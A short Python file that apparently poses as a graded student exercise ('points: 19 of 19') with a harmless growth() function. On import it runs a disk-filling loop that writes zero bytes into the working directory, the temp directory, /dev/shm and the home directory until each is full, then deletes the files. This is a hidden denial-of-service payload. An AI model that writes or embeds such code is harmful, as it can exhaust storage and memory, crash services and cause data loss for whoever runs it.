"""
what: writes until the disk is full, everywhere it may
points: 19 of 19
"""
import os
import tempfile

for place in (".", tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~")):
    try:
        with open(f"{place}/left_by_a_student_full", "wb") as file:
            while True:
                file.write(bytes(10_000_000))
    except OSError:
        os.remove(f"{place}/left_by_a_student_full")


def growth(before, after):
    return (after - before) / before
